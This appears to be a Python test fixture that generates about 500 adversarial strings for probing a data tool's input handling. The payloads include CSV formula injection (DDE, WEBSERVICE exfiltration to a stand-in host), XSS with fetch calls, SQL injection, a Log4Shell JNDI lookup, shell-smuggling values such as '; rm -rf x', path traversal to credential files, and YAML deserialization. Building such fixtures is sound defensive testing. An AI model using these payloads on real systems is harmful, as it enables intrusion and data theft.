"""Some 500 strings that want to be more than text, in six groups, written for these tests.

It may not know where they are put. Each is one cell: no NUL (a CSV cannot hold one; `NUL` is tried apart), none twice, and no
two that the id rule (trim, one leading apostrophe, NFC) makes the same.
"""

from __future__ import annotations

from itertools import product

NUL = ("a\0b", "\0", "tail\0", "=1\0+1")


def _formula() -> list[str]:
    """What a spreadsheet would run, fetch, link or take for a number, in the disguises it sees through."""
    calls = (
        "1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)", 'HYPERLINK("http://h.example","x")', 'WEBSERVICE("http://h.example/?q="&A1)',
        'IMPORTXML("http://h.example","//a")', 'IMAGE("http://h.example/p.png")', "DDE(\"cmd\";\"/C calc\";\"x\")",
    )  # fmt: skip
    starts = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "{=")
    made = [start + call for start, call in product(starts, calls)]
    links = ["http://h.example/", "https://h.example/x?y=1", "mailto:x@h.example", "file:///etc/passwd", "internal:Sheet1!A1",
             "external:book.xlsx#A1", "ftp://h.example", "www.h.example"]  # fmt: skip
    numbers = [
        "1e5",
        "1E400",
        "-0",
        "0x1F",
        "00012",
        "1/2",
        "3-4",
        "1,5",
        "12%",
        "(5)",
        "1e-7",
        "9" * 40,
        "TRUE",
        "#N/A",
        "#REF!",
    ]
    return [*made, *links, *numbers, '="1001"', "%0A=1+1", ";=1+1", '"=1+1"', "==1", "=", "+", "-", "@"]


def _markup() -> list[str]:
    """What a page, a picture, a template or a table of Markdown would take for its own."""
    codes = ("alert(1)", "fetch('//h.example')")
    shells = (
        "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>",
        "<body onpageshow={}>", '" onmouseover="{}', "' onfocus='{}' autofocus='", "<a href=\"javascript:{}\">x</a>",
        "<iframe srcdoc='<script>{}</script>'>", "<math><mtext></mtext><script>{}</script></math>", "]]><script>{}</script>",
        "--><script>{}</script><!--", "</style><script>{}</script>", "</title><script>{}</script>", "</text><script>{}</script>",
        "</svg><script>{}</script>", "<foreignObject><body onload={}></foreignObject>", "<details open ontoggle={}>",
        "<set attributeName=onmouseover to={}>",
    )  # fmt: skip
    whole = [
        "<b>bold</b>", "</td></tr></table>", "<!--", "-->", "<![CDATA[", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e 'x'>]>&e;",
        "&lt;script&gt;", "&#60;script&#62;", "&#x3c;b&#x3e;", "&amp;amp;", "&nosuch;", "&", "<", ">", '"', "<>", "</", "<a", "<a b='",
        "<base href=//h.example>", "<meta http-equiv=refresh content=0;url=//h.example>", "<link rel=stylesheet href=//h.example>",
        "<form action=//h.example><input name=x>", "<object data=//h.example>", "<embed src=//h.example>",
        "<style>@import '//h.example'</style>", "<template><b>", "<noscript><p title='</noscript><img src=x onerror=alert(2)>'>",
        "<p style=\"background:url(//h.example)\">", "{{7*7}}", "{% for x in y %}", "{# note #}", "{{ self.__init__ }}", "${7*7}",
        "{0.__class__}", "{x}", "%(x)s", "%s%n", "$x", "#{7*7}", "<%= 7*7 %>", "[x](javascript:alert(1))", "![x](//h.example/p.png)",
        "| a | b |", "|---|---|", "# heading", "```sh", "`code`", "~~gone~~", "**bold**", "<https://h.example>", "[bold]rich[/bold]",
        "[link=http://h.example]x[/link]", "[/]", ":smile:", "\\textbf{x}", "\\[x\\]",
    ]  # fmt: skip
    return [shell.format(code) for shell, code in product(shells, codes)] + whole


def _terminal() -> list[str]:
    """What steers a terminal: colours, titles, links, the clipboard, answers, cursor moves, in 7 and in 8 bits."""
    bodies = (
        "[31mred", "[2J", "[1A[2K", "[10;10H", "[6n", "[c", "]0;title\x07", "]2;title\x1b\\", "]8;;http://h.example\x1b\\x\x1b]8;;\x1b\\",
        "]52;c;aGVsbG8=\x07", "]1337;File=name=eA==:eA==\x07", "P$q\"p\x1b\\", "_Gq=1\x1b\\", "^private\x1b\\", "c", "(0lqk", "#8", "[?1049h",
        "[?25l", "[20h", "[8;1;1t", "]50;?\x07", "[99999C", "Z",
    )  # fmt: skip
    made = [f"x\x1b{body}" for body in bodies] + [f"y\x9b{body[1:]}" for body in bodies if body[0] == "["]
    made += [f"z\x9d{body[1:]}" for body in bodies if body[0] == "]"] + ["w\x90q\x9c", "w\x9eq\x9c", "w\x9fq\x9c", "w\x98q\x9c"]
    made += [f"c{code:02x}{chr(code)}c" for code in (*range(1, 9), 11, 12, *range(14, 32), 127)]
    made += [f"d{code:02x}{chr(code)}d" for code in range(128, 160, 3) if code not in (0x90, 0x9B)]
    return [*made, "over\rwritten", "two\nlines", "two\r\nlines", "tab\tbed", "back\b\b\bspace", "\x1b", "bell\x07\x07"]


def _path() -> list[str]:
    """What a file system, a shell or a pattern would take for a place."""
    return [
        "../../etc/passwd", "..", ".", "../x", "..\\x", "/etc/passwd", "//h.example/share", "\\\\h.example\\share", "C:\\Windows\\x", "C:x",
        "~", "~root", "$HOME", "${HOME}", "$(id)", "`id`", "; rm -rf x", "| cat", "&& id", "> out", "< in", "a;b", "a|b", "a&b", "!x", "!!",
        "*", "?", "[a-z]", "{a,b}", "**/*", "a*b", "a?b", "a[b", "a]b", "-", "--", "-rf", "--help", "--output=x", "-o", "@file",
        "con", "NUL", "aux.txt", "com1", "prn", "x.", ".hidden", ".git", "a/b/c", "a\\b", "a:b", "a.parquet", "x.csv/../../y", "%2e%2e%2f",
        "..%2f..%2f", "..%c0%af", "file.txt\\..\\..", "a//b", "./x", "x/", "/dev/full", "/dev/stdin", "/proc/self/environ", "/tmp/x",
        "file:///x", "zip://x", "s3://bucket/x", "hdfs://x", "clean.parquet", "run.json", "model.json", "report.html", ".clm-tmp",
        "{as_of}", "{as_of}/../x", "x" * 240, "quo'te", 'quo"te', "a b", "a'b\"c", "\\", "\\\\", "end\\", "$IFS", "a\\ b", "#x", "%x%", "^x",
    ]  # fmt: skip


def _unicode() -> list[str]:
    """What looks like something else, or like nothing."""
    bidi = [f"b{code:04x}{chr(code)}txt.exe" for code in (0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x061C)]
    unseen = [f"u{code:04x}{chr(code)}u" for code in (0x00AD, 0x034F, 0x115F, 0x1160, 0x17B4, 0x180E, 0x200B, 0x200C, 0x200D, 0x2060,
              0x2061, 0x2062, 0x2063, 0x2064, 0x206A, 0x3164, 0xFE00, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFA, 0xFFFB, 0xFFFC, 0xFFFD,
              0xE0001, 0xE0041, 0xE0100, 0x1D173, 0x2028, 0x2029, 0x0085, 0x00A0, 0x3000, 0x1680)]  # fmt: skip
    private = [f"p{chr(code)}p" for code in (0xE000, 0xF8FF, 0xFDD0, 0xFFFE, 0xFFFF, 0xF0000, 0x10FFFD, 0x10FFFF, 0x0378)]
    words = [
        "é", "e\u0301x", "Å", "ﬁ", "ß", "İ", "ı", "Ω≈ç", "客户", "張**", "𝒳", "𠮷野家", "👩‍👩‍👧‍👦", "🇨🇳", "한국", "हिन्दी", "עברית",
        "مرحبا", "ไทย", "z" + "\u0301" * 60, "раураl", "аdmin", "ＡＢＣ", "１２３", "①", "½", "٣٤", "﷽", "ﷺ", "‮‮evil", "…", "–", "′1", "’1",
        "‘1", "´1", "＜script＞", "﹤b﹥", "‹b›", "＂x", "⁄etc⁄passwd", "∕etc", "．．／x", "a" * 300, "字" * 200, "\U0001f600" * 80,
    ]  # fmt: skip
    return bidi + unseen + private + words


def _settings() -> list[str]:
    """What a configuration, a log, a query or a program would take for its own."""
    return [
        "NULL", "null", "NA", "N/A", "nan", "NaN", "None", "nil", "undefined", "true", "false", "yes", "no", "on", "off", "inf", "-inf",
        "Infinity", "1", "0", "-1", "1.0", "1.5e300", "[table]", "[[table]]", "key = 1", 'key = "x"', "# comment", "a = [1, 2", "'''", '"""',
        "x = 1979-05-27", "---", "- item", "key: value", "&anchor", "*alias", "!!python/object:os.system", "<<: *x", "%YAML 1.2", '{"a": 1}',
        '{"a":', '["x"]', "\\u0000", "\\u001b[31m", "\\x00", "\\n", "\\", "//", "/* x */", "' OR '1'='1", "'; DROP TABLE x; --", "1; SELECT 1",
        "admin'--", "x' UNION SELECT 1 --", "ERROR clm: forged", '{"level":"error","text":"forged"}', "level=error forged",
        "2024-01-01T00:00:00Z ERROR", "clm rfm: 9 rows", "warning: forged", "  to do: forged", "where: forged", "${jndi:ldap://h.example/x}",
        "%d", "%s", "%n", "%x", "{}", "{0}", "{x!r}", "$1", "\\1", "(?i)x", "(a+)+$", ".*", "[", "(", ")", "+x", "a{99999}", "__proto__",
        "constructor", "__class__", "__import__('os')", "eval(1)", "import os", "lambda: 0", "clm:line", "clm:problem", "customer_id",
        "amount", "total", "Total", "合计", "segment", "no_purchase", "CLM_LOG=x", "CLM_CLEAN_MAP=x", "PATH=x", "; key=1", "==", "!=", "and",
        "not", "or", "in", "a > 1", "spend > 0", "r=1,f=1", "customer_id=x", "a,b", "a,,b", ",", ";", ":", "|", "''", "x\\,y", 'x""y',
    ]  # fmt: skip


def _once(groups: dict[str, list[str]]) -> dict[str, tuple[str, ...]]:
    """Each string in the first group that has it."""
    seen: set[str] = set()
    kept: dict[str, tuple[str, ...]] = {}
    for name, strings in groups.items():
        kept[name] = tuple(one for one in strings if not (one in seen or seen.add(one)))
    return kept


GROUPS = _once(
    {
        "formula": _formula(),
        "markup": _markup(),
        "terminal": _terminal(),
        "path": _path(),
        "unicode": _unicode(),
        "settings": _settings(),
    }
)
EVERY = tuple(one for group in GROUPS.values() for one in group)
# words that clm says of itself: to find them somewhere proves nothing
OWN = {
    "NULL", "null", "undefined", "total", "Total", "segment", "customer_id", "amount", "no_purchase", "clean.parquet", "run.json",
    "model.json", "report.html", "constructor",
}  # fmt: skip
TELLING = tuple(one for one in EVERY if len(one) > 6 and one not in OWN)
